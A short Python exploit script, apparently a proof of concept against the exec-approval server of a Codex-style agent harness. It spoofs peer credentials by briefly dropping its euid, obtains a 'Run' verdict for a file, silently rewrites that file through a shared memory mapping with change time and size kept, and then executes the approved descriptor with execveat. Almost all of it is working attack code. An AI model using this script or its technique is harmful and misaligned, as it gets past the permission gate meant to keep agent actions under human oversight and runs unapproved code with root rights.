"""Root, unsandboxed: make the escalation server judge the file as for uid 65534 (SO_PEERCRED
of a socketpair made under a dropped euid), get a Run, rewrite the file through a shared
mapping (change time and size kept), execveat the fd.
usage: euidq.py FILE SOURCE ARGV0..."""
import ctypes, errno, json, mmap, os, socket, struct, sys
file, source, argv = sys.argv[1], sys.argv[2], sys.argv[3:]
fd = os.open(file, os.O_RDWR)
mapped = mmap.mmap(fd, os.fstat(fd).st_size, mmap.MAP_SHARED)
os.close(fd)
for page in range(0, len(mapped), mmap.PAGESIZE):
    mapped[page] = mapped[page]
dgram = socket.socket(fileno=os.dup(int(os.environ["CODEX_ESCALATE_SOCKET"])))
os.setresuid(-1, 65534, -1)  # euid only: SO_PEERCRED of the pair is taken now
mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
os.setresuid(-1, 0, -1)
print("EUID BACK", os.geteuid(), flush=True)
dgram.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", theirs.fileno()))])
theirs.close()
target = os.open(file, os.O_PATH | os.O_CLOEXEC)
mode = os.environ.get("MODE", "query")
body = json.dumps({"file": file, "argv": argv, "workdir": os.getcwd(), "env": {}, "execgate_target_fd": True,
                   **({"execgate_cached_only": True} if mode == "query" else {})}).encode()
mine.sendmsg([struct.pack("<I", len(body)) + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", target))])
(size,) = struct.unpack("<I", mine.recv(4, socket.MSG_WAITALL))
answer = json.loads(mine.recv(size, socket.MSG_WAITALL))
action = answer["action"] if isinstance(answer["action"], str) else next(iter(answer["action"]))
print(f"ANSWER {file} {action}", flush=True)
if action != "Run":
    sys.exit(0)
before = os.stat(file)
with open(source, "rb") as src:
    mapped[:] = src.read()
mapped.close()
after = os.stat(file)
print(f"CTIME SAME {before.st_ctime_ns == after.st_ctime_ns} SIZE SAME {before.st_size == after.st_size}", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
args = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
envp = (ctypes.c_char_p * 1)(None)
libc.syscall(322, target, b"", args, envp, 0x1000)
print(f"EXEC {errno.errorcode.get(ctypes.get_errno(), '?')}", flush=True)
